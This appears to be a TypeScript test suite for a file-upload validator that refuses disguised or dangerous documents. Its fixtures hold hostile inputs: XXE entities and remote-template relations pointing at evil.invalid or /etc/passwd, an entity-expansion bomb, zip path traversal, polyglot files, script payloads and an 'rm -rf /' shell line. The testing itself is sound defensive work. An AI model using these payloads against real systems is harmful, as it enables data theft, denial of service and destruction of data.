/*
 * SEC-24 and SEC-31: a file is what its content says, or it is refused: documents that ask for something elsewhere
 * or define entities, macros, pages and programs under another name, files that are two things at once.
 */
import { Document, Packer, Paragraph } from 'docx';
import { expect, test } from 'vitest';
import writeExcelFile from 'write-excel-file/node';
import { Problem } from '../../../instruments/problem.ts';
import { checkContent } from '../../../server/files/check-content.ts';
import { makeZip, type Part } from '../../support/make-zip.ts';
import {
	contentTypes,
	DOCX_PARTS,
	JPEG,
	makePdf,
	makePng,
	ODT_PARTS,
	relations,
	SAMPLE_FILES,
	XLSX_PARTS,
} from '../../support/sample-files.ts';

/** The rule for which this is refused. */
async function refusal(content: Buffer, name: string): Promise<string> {
	try {
		const { kind } = await checkContent(content, name);
		return `kept as ${kind}`;
	} catch (error) {
		if (error instanceof Problem && error.kind === 'bad-file') return error.errors[0]?.rule ?? '';
		throw error;
	}
}

const DAMAGED = 'it is damaged or cut off';
const MACRO = 'it holds a macro or a program';
const ELSEWHERE = 'it fetches something from another place when it is opened';
const ENTITIES = 'it defines entities';
const SCRIPT = 'it is a page or a script';
const NO_KIND = /none of the kinds that can be kept/;

const TEMPLATE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
const LINK = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink';
const docxWith = (...parts: readonly Part[]) => makeZip([...DOCX_PARTS, ...parts]);
const WORD_RELS = 'word/_rels/document.xml.rels';
const bomb = `<!DOCTYPE x [${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}]>`;

test.each([
	[
		'a document with an outside entity',
		'<!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.invalid/x">]><x>&e;</x>',
	],
	['a document of a billion laughs', `${bomb}<x>&l9;</x>`],
	['an entity in UTF-16', Buffer.from('\ufeff<!DOCTYPE x []><x/>', 'utf16le')],
])('%s is refused', async (_, content) => {
	expect(await refusal(docxWith({ name: 'word/styles.xml', content }), 'a.docx')).toBe(ENTITIES);
	const odt = makeZip([...ODT_PARTS, { name: 'styles.xml', content }]);
	expect(await refusal(odt, 'a.odt')).toBe(ENTITIES);
});

test.each([
	['plain', `<Relationship Id="a" Type="${TEMPLATE}" Target="http://evil.invalid/" TargetMode="External"/>`],
	[
		'with the mode spelt by numbers',
		`<Relationship Id="a" Type="${TEMPLATE}" Target="http://evil.invalid/" TargetMode="Ext&#101;rnal"/>`,
	],
	[
		'behind a bracket in another value',
		`<Relationship Id="a>b" Type="${TEMPLATE}" Target="file:///etc/passwd" TargetMode='External'/>`,
	],
	[
		'with a prefix',
		`<p:Relationship xmlns:p="x" TargetMode="External" Type="${TEMPLATE}" Target="\\\\evil\\share"/>`,
	],
])('a relation that fetches something from elsewhere, %s, is refused', async (_, inner) => {
	expect(await refusal(docxWith(relations(inner, WORD_RELS)), 'a.docx')).toBe(ELSEWHERE);
	expect(await refusal(makeZip([...XLSX_PARTS, relations(inner, 'xl/_rels/a.rels')]), 'a.xlsx')).toBe(
		ELSEWHERE,
	);
});

test('a link that a reader must click is no reason to refuse a document', async () => {
	const link = `<Relationship Id="a" Type="${LINK}" Target="https://example.org/" TargetMode="External"/>`;
	expect(await refusal(docxWith(relations(link, WORD_RELS)), 'a.docx')).toBe('kept as docx');
	const clicked = '<text:p><text:a xlink:type="simple" xlink:href="https://example.org/">x</text:a></text:p>';
	const [mimetype, , manifest] = ODT_PARTS;
	const odt = makeZip(
		[mimetype, { name: 'content.xml', content: clicked }, manifest].flatMap((x) => x ?? []),
	);
	expect(await refusal(odt, 'a.odt')).toBe('kept as odt');
});

test.each([
	'http://evil.invalid/x.png',
	'file:///etc/passwd',
	'//evil.invalid/x',
	'&#104;ttp://evil.invalid/',
])('an open document whose picture stands at %s is refused', async (href) => {
	const content = `<a><draw:image draw:name="x>y" xlink:href="${href}"/></a>`;
	const odt = makeZip([...ODT_PARTS, { name: 'Object 1/content.xml', content }]);
	expect(await refusal(odt, 'a.odt')).toBe(ELSEWHERE);
});

test.each([
	['a macro', docxWith({ name: 'word/vbaProject.bin', content: 'x' }), 'law.docx'],
	['a control', docxWith({ name: 'word/activeX/activeX1.xml', content: '<x/>' }), 'law.docx'],
	['a program inside', docxWith({ name: 'word/embeddings/a.exe', content: 'MZ' }), 'law.docx'],
	['a document with macros inside', docxWith({ name: 'word/embeddings/a.docm', content: 'x' }), 'law.docx'],
	['Basic', makeZip([...ODT_PARTS, { name: 'Basic/Standard/Module1.xml', content: '<x/>' }]), 'plan.odt'],
	[
		'the type of a document with macros',
		makeZip([
			contentTypes('word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
			...DOCX_PARTS.slice(1),
		]),
		'renamed.docx',
	],
])('a document with %s is refused', async (_, content, name) => {
	expect(await refusal(content, name)).toBe(MACRO);
});

test.each([
	['a page as PDF', Buffer.from('<!doctype html><script>alert(1)</script>'), 'law.pdf', SCRIPT],
	['a page as text', Buffer.from('  <html><body>x</body></html>'), 'note.txt', SCRIPT],
	['a picture with script as text', Buffer.from('<svg xmlns="x" onload="alert(1)"/>'), 'a.txt', SCRIPT],
	['XML as text', Buffer.from('<?xml version="1.0"?><x/>'), 'a.txt', SCRIPT],
	['a page further down', Buffer.from('note\n<script>alert(1)</script>'), 'a.txt', SCRIPT],
	['a shell script', Buffer.from('#!/bin/sh\nrm -rf /\n'), 'a.txt', SCRIPT],
	['a program', Buffer.from('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0', 'latin1'), 'law.pdf', NO_KIND],
	['a program of Linux', Buffer.from('\x7fELF\x02\x01\x01\0\0\0', 'latin1'), 'a.png', /no plain text/],
	['a GIF', Buffer.from('GIF89a\x01\0\x01\0\x80\0\0', 'latin1'), 'a.png', /none of the kinds|no plain text/],
	['RTF', Buffer.from('{\\rtf1\\ansi law}'), 'law.txt', NO_KIND],
	['a zip of anything', makeZip([{ name: 'law.txt', content: 'x' }]), 'law.docx', NO_KIND],
	['slides', makeZip([contentTypes('ppt/presentation.xml', 'x')]), 'law.docx', NO_KIND],
	['nothing at all but NULs', Buffer.alloc(100), 'law.txt', /no plain text/],
	['Latin-1', Buffer.from('Loi sur les biblioth\xe8ques', 'latin1'), 'loi.txt', NO_KIND],
])('%s is refused', async (_, content, name, rule) => {
	expect(await refusal(content, name)).toMatch(rule);
});

test.each([
	[
		'a PDF with a zip at its end',
		Buffer.concat([makePdf(), makeZip(DOCX_PARTS)]),
		'a.pdf',
		/archive as well/,
	],
	['a picture with a zip at its end', Buffer.concat([JPEG, makeZip(DOCX_PARTS)]), 'a.jpg', /archive as well/],
	['a zip behind a page', Buffer.concat([Buffer.from('<html>'), makeZip(DOCX_PARTS)]), 'a.docx', /archive/],
	[
		'a zip behind an empty one',
		Buffer.concat([Buffer.from('PK\x03\x04'), makeZip(DOCX_PARTS)]),
		'a.docx',
		DAMAGED,
	],
	['a PDF that is a page', Buffer.from(`%PDF-1.4\n<html><script>x</script>\n%%EOF`), 'a.pdf', /page as well/],
	[
		'a PDF that begins later',
		Buffer.concat([Buffer.from('\n'), makePdf()]),
		'a.pdf',
		/not what its name says/,
	],
	['a PDF without an end', makePdf().subarray(0, 60), 'a.pdf', DAMAGED],
])('%s is refused', async (_, content, name, rule) => {
	expect(await refusal(content, name)).toMatch(rule);
});

test.each([
	['page.png', 'law.pdf', 'PNG'],
	['law.docx', 'law.xlsx', 'DOCX'],
	['law.pdf', 'law.html', 'PDF'],
	['note.txt', 'note.js', 'TXT'],
])('%s under the name %s is refused, and says what it is', async (sample, name, kind) => {
	const content = SAMPLE_FILES[sample] ?? Buffer.alloc(0);
	expect(await refusal(content, name)).toBe(`it is not what its name says (its content is ${kind})`);
});

test.each([
	['a symbolic link', { name: 'word/link', content: '/etc/passwd', mode: 0o120777 }],
	['a path upwards', { name: '../../evil.xml', content: 'x' }],
	['a path from the root', { name: '/etc/evil.xml', content: 'x' }],
	['a path of Windows', { name: 'word\\..\\evil.xml', content: 'x' }],
	['a drive', { name: 'C:/evil.xml', content: 'x' }],
	['the same name twice', { name: 'WORD/document.xml', content: 'x' }],
	['a size that is not true', { name: 'word/a.xml', content: '<x/>', claimedSize: 3 }],
] as const)('a zip with %s is refused', async (_, part) => {
	expect(await refusal(docxWith(part), 'a.docx')).toBe(DAMAGED);
});

test('a document locked with a password says so', async () => {
	const content = docxWith({ name: 'word/a.xml', content: '<x/>', flags: 1 });
	expect(await refusal(content, 'a.docx')).toBe('it is locked with a password');
});

test.each(Object.entries(SAMPLE_FILES))('%s is kept as what it is', async (name, content) => {
	expect(await refusal(content, name)).toBe(`kept as ${name.split('.')[1]}`);
});

test('text in UTF-16 with its mark is text, and a name without an ending says nothing false', async () => {
	expect(await refusal(Buffer.from('\ufeffyear,rooms\n', 'utf16le'), 'a.csv')).toBe('kept as csv');
	expect(await refusal(makePdf(), 'scan')).toBe('kept as pdf');
	expect(await refusal(JPEG, 'photo.JPEG')).toBe('kept as jpg');
	expect(await refusal(makePng(), 'photo.PNG')).toBe('kept as png');
});

test('documents as programs write them are kept', async () => {
	const text = new Document({ sections: [{ children: [new Paragraph('Act on reading rooms')] }] });
	expect(await refusal(await Packer.toBuffer(text), 'act.docx')).toBe('kept as docx');
	const sheet = await writeExcelFile([[{ value: 'Rooms' }, { value: 12 }]]).toBuffer();
	expect(await refusal(sheet, 'rooms.xlsx')).toBe('kept as xlsx');
});
